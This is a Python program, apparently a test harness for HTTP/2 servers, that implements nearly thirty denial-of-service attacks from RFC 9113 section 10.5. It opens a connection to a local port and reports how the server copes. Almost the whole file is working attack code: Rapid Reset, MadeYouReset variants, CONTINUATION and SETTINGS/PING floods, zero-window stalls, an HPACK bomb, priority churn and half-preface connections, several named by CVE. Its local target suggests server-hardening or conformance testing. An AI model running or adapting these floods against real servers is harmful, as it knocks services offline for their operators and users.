"""What a client can do to a server of HTTP/2 that RFC 9113 10.5 warns of. Run as a program: one attack, one connection.

    python3 attacks.py NAME PORT

Prints, as JSON, what has become of it: how much was sent, and how the server took it.
"""

import collections
import json
import socket
import struct
import sys
import threading
import time

from hpack import Encoder

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED = 1, 1, 4, 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# An attack ends when the server ends the connection, when it takes no more, or when this much has been sent.
SECONDS = 2
MOST = 64 << 20


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def request(stream: int, *more, method="GET", path="/", end=True, encoder=None, **pseudo) -> bytes:
    fields = [(":method", method), (":scheme", "http"), (":authority", "interop.test"), (":path", path), *more]
    block = (encoder or Encoder()).encode(fields)
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block)


def prefixed(number: int) -> bytes:
    """A length of HPACK (RFC 7541 5.1) in seven bits and what follows them."""
    octets, number = b"\x7f", number - 127
    while number > 127:
        octets, number = octets + bytes([number % 128 + 128]), number // 128
    return octets + bytes([number])


def settings(**values) -> bytes:
    numbers = {"table": 1, "push": 2, "streams": 3, "window": 4, "frame": 5, "list": 6}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", numbers[name], value) for name, value in values.items()))


class Connection:
    """A socket, and a thread that reads what the server has to say, unless it is not to."""

    def __init__(self, port: int, *first: bytes, reads=True):
        self.socket = socket.create_connection(("127.0.0.1", port), 10)
        self.socket.settimeout(2)
        self.frames = collections.Counter()
        self.resets = collections.Counter()
        self.statuses = 0
        self.goaway = None
        self.closed = False
        self.stuck = False
        self.sent = 0
        self.data = 0
        self.last = 0
        self.until = time.monotonic() + SECONDS
        self.send(PREFACE + (b"".join(first) or settings()))
        self.thread = threading.Thread(target=self.read, daemon=True)
        if reads:
            self.thread.start()

    def send(self, data: bytes) -> bool:
        """Whether there is any sense in going on."""
        view = memoryview(data)
        try:
            while view and not self.closed:
                count = self.socket.send(view)
                self.sent += count
                view = view[count:]
        except TimeoutError:
            self.stuck = True
        except OSError:
            self.closed = True
        over = self.closed or self.stuck or self.sent > MOST or time.monotonic() > self.until
        return not over

    def read(self):
        reader = self.socket.makefile("rb")
        try:
            while len(head := reader.read(9)) == 9:
                length = int.from_bytes(head[:3])
                self.take(head[3], head[4], int.from_bytes(head[5:9]) & 0x7FFFFFFF, reader.read(length))
        except TimeoutError:
            return
        except OSError:
            pass
        self.closed = True

    def take(self, kind, flags, stream, payload):
        self.frames[kind] += 1
        if kind == RST_STREAM:
            self.resets[int.from_bytes(payload)] += 1
            self.last = max(self.last, stream)
        elif kind == GOAWAY:
            self.goaway = int.from_bytes(payload[4:8])
        elif kind == HEADERS:
            self.statuses += 1
            self.last = max(self.last, stream)
        elif kind == DATA:
            self.data += len(payload)

    def wait(self, condition, seconds: float):
        end = time.monotonic() + seconds
        while not condition() and not self.closed and time.monotonic() < end:
            time.sleep(0.01)
        return condition()

    def outcome(self) -> dict:
        self.wait(lambda: self.goaway is not None, 1)
        if self.goaway is not None:
            self.wait(lambda: self.closed, 1)
        return {
            "sent": self.sent, "goaway": self.goaway, "closed": self.closed, "stuck": self.stuck, "data": self.data,
            "resets": dict(self.resets), "answers": self.statuses, "frames": sum(self.frames.values()),
        }


def batches(make, size=500):
    """Joins what `make` makes of 0, 1, 2 and so on."""
    number = 0
    while True:
        yield b"".join(make(one) for one in range(number, number + size))
        number += size


def pour(connection: Connection, make, size=500):
    for batch in batches(make, size):
        if not connection.send(batch):
            return


def nothing(port):
    """What the others are compared with."""
    connection = Connection(port)
    time.sleep(SECONDS)
    return connection


def rapid_reset(port):
    """CVE-2023-44487: requests that are taken back at once."""
    connection = Connection(port)
    block = request(1)[9:]
    cancel = struct.pack(">I", 8)

    def one(number):
        stream = 2 * number + 1
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, block) + frame(RST_STREAM, 0, stream, cancel)

    pour(connection, one, 100)
    return connection


def made_you_reset(port):
    """CVE-2025-8671: valid requests, and then what makes the server reset them: here a window that grows by nothing."""
    connection = Connection(port)
    block = request(1, path="/slow/1000")[9:]

    def one(number):
        stream = 2 * number + 1
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, block) + frame(WINDOW_UPDATE, 0, stream, bytes(4))

    pour(connection, one, 100)
    return connection


def made_you_reset_by_overflow(port):
    """The same by a window that overflows."""
    connection = Connection(port)
    block = request(1, path="/slow/1000")[9:]
    most = struct.pack(">I", 0x7FFFFFFF)

    def one(number):
        stream = 2 * number + 1
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, block) + frame(WINDOW_UPDATE, 0, stream, most)

    pour(connection, one, 100)
    return connection


def made_you_reset_by_length(port):
    """The same by a body that is longer than it says."""
    connection = Connection(port)
    block = request(1, ("content-length", "1"), method="POST", end=False)[9:]

    def one(number):
        stream = 2 * number + 1
        return frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, b"four")

    pour(connection, one, 100)
    return connection


def malformed_requests(port):
    """Requests that have to be reset one by one."""
    connection = Connection(port)
    block = request(1, ("connection", "close"))[9:]
    pour(connection, lambda number: frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, block), 100)
    return connection


def reset_of_idle(port):
    """RST_STREAM before there is a stream."""
    connection = Connection(port)
    pour(connection, lambda number: frame(RST_STREAM, 0, 2 * number + 1, struct.pack(">I", 8)), 100)
    return connection


def continuation(port):
    """CVE-2024-27316 and its like: a head without end, whose fields are new each time."""
    connection = Connection(port)
    connection.send(frame(HEADERS, END_STREAM, 1, request(1)[9:]))

    def one(number):
        name = b"x-%07d" % number
        return frame(CONTINUATION, 0, 1, b"\x00" + bytes([len(name)]) + name + b"\x04" + b"some")

    pour(connection, one)
    return connection


def continuation_of_nothing(port):
    """The same with frames without content."""
    connection = Connection(port)
    connection.send(frame(HEADERS, END_STREAM, 1, request(1)[9:]))
    pour(connection, lambda _: frame(CONTINUATION, 0, 1))
    return connection


def continuation_of_one_field(port):
    """The same with a field whose value does not end."""
    connection = Connection(port)
    connection.send(frame(HEADERS, END_STREAM, 1, request(1)[9:] + b"\x00\x06x-long" + prefixed(1 << 26)))
    pour(connection, lambda _: frame(CONTINUATION, 0, 1, b"a" * 16384), 4)
    return connection


def settings_flood(port):
    """CVE-2019-9515: each has to be acknowledged, and nobody reads that."""
    connection = Connection(port, reads=False)
    pour(connection, lambda number: settings(table=4096 if number % 2 else 0))
    return connection


def settings_read(port):
    """The same by a client that reads."""
    connection = Connection(port)
    pour(connection, lambda number: settings(window=65535 if number % 2 else 0))
    return connection


def ping_flood(port):
    """CVE-2019-9512: the same with PING."""
    connection = Connection(port, reads=False)
    pour(connection, lambda number: frame(PING, 0, 0, struct.pack(">Q", number)))
    return connection


def ping_read(port):
    connection = Connection(port)
    pour(connection, lambda number: frame(PING, 0, 0, struct.pack(">Q", number)))
    return connection


def empty_data(port):
    """CVE-2019-9518: frames without content, which no window limits."""
    connection = Connection(port)
    connection.send(request(1, method="POST", path="/digest", end=False))
    pour(connection, lambda _: frame(DATA, 0, 1))
    return connection


def padding(port):
    """Frames that are all padding."""
    connection = Connection(port)
    connection.send(request(1, method="POST", path="/digest", end=False))
    pour(connection, lambda _: frame(DATA, PADDED, 1, b"\x7f" + bytes(127)), 100)
    return connection


def empty_headers(port):
    """CVE-2019-9516 and 9518: heads without fields, and trailers without fields that do not end the stream."""
    connection = Connection(port)
    pour(connection, lambda number: frame(HEADERS, END_HEADERS, 2 * (number // 2) + 1))
    return connection


def empty_names(port):
    """CVE-2019-9516: fields without name."""
    connection = Connection(port)
    block = b"\x00\x00\x00" * 2000
    pour(connection, lambda number: frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, block), 10)
    return connection


def zero_window(port):
    """CVE-2019-9511: large answers are asked for, and there is never room for them."""
    connection = Connection(port, settings(window=0))
    for number in range(100):
        connection.send(request(2 * number + 1, path="/bytes/10000000"))
    connection.wait(lambda: connection.statuses >= 100, 10)
    time.sleep(2)
    return connection


def tiny_window(port):
    """The same with room for one byte at a time."""
    connection = Connection(port, settings(window=1))
    for number in range(100):
        connection.send(request(2 * number + 1, path="/bytes/10000000"))
    streams = [frame(WINDOW_UPDATE, 0, 2 * number + 1, struct.pack(">I", 1)) for number in range(100)]
    while connection.send(b"".join(streams)):
        connection.wait(lambda: False, 0.01)
    return connection


def does_not_read(port):
    """There is room, but nobody reads."""
    connection = Connection(port, settings(window=0x7FFFFFFF) + frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\x00\x00"),
                            reads=False)
    for number in range(100):
        connection.send(request(2 * number + 1, path="/bytes/10000000"))
    time.sleep(2)
    return connection


def window_overflow(port):
    """More room than there can be."""
    connection = Connection(port)
    pour(connection, lambda _: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)), 10)
    return connection


def window_crumbs(port):
    """A byte more room for the connection, again and again."""
    connection = Connection(port)
    pour(connection, lambda _: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))
    return connection


def hpack_bomb(port):
    """CVE-2016-6581: a field of 4,000 bytes in the table, and blocks of references to it, one byte each."""
    encoder = Encoder()
    connection = Connection(port)
    connection.send(request(1, ("x-bomb", "b" * 3900), encoder=encoder))
    references = request(3, encoder=encoder)[9:]
    block = references + b"\xbe" * (16000 - len(references))
    pour(connection, lambda number: frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 3, block), 10)
    return connection


def large_heads(port):
    """Heads of 160,000 bytes in nine thousand fields, each within what frames may have."""
    connection = Connection(port)
    fields = [(f"x-{number}", str(number)) for number in range(9000)]
    block = request(1, *fields)[9:]

    def one(number):
        parts = [block[at : at + 16384] for at in range(0, len(block), 16384)]
        frames = [frame(HEADERS, END_STREAM, 2 * number + 1, parts[0])]
        frames += [frame(CONTINUATION, 0, 2 * number + 1, part) for part in parts[1:-1]]
        return b"".join(frames) + frame(CONTINUATION, END_HEADERS, 2 * number + 1, parts[-1])

    pour(connection, one, 1)
    return connection


def priorities(port):
    """CVE-2019-9513: a tree of dependencies that never rests."""
    connection = Connection(port)

    def one(number):
        stream = 2 * (number % 5000) + 1
        return frame(PRIORITY, 0, stream, struct.pack(">IB", 2 * ((number * 7919) % 5000) + 3, number % 256))

    pour(connection, one)
    return connection


def unknown_frames(port):
    """Frames of a kind that nobody knows have to be ignored, however many."""
    connection = Connection(port)
    pour(connection, lambda _: frame(0xFE, 0xFF, 0, b"unknown"))
    return connection


def many_streams(port):
    """More requests than there may be at a time, none of which ends."""
    connection = Connection(port)
    block = request(1, method="POST", path="/digest", end=False)[9:]
    pour(connection, lambda number: frame(HEADERS, END_HEADERS, 2 * number + 1, block), 100)
    return connection


def half_a_preface(port):
    """A client that never comes to speak."""
    connection = Connection.__new__(Connection)
    connections = [socket.create_connection(("127.0.0.1", port), 10) for _ in range(200)]
    for number, one in enumerate(connections):
        one.sendall(PREFACE[: number % len(PREFACE)])
    connection.__init__(port)
    time.sleep(1)
    connection.others = connections
    return connection


ATTACKS = {
    attack.__name__: attack
    for attack in (
        nothing, rapid_reset, made_you_reset, made_you_reset_by_overflow, made_you_reset_by_length, malformed_requests,
        reset_of_idle, continuation, continuation_of_nothing, continuation_of_one_field, settings_flood, settings_read,
        ping_flood, ping_read, empty_data, padding, empty_headers, empty_names, zero_window, tiny_window, does_not_read,
        window_overflow, window_crumbs, hpack_bomb, large_heads, priorities, unknown_frames, many_streams,
        half_a_preface,
    )
}


def main():
    name, port = sys.argv[1:]
    connection = ATTACKS[name](int(port))
    print(json.dumps(connection.outcome()), flush=True)
    sys.stdin.read()  # the connection stays open until whoever started this has looked


if __name__ == "__main__":
    main()
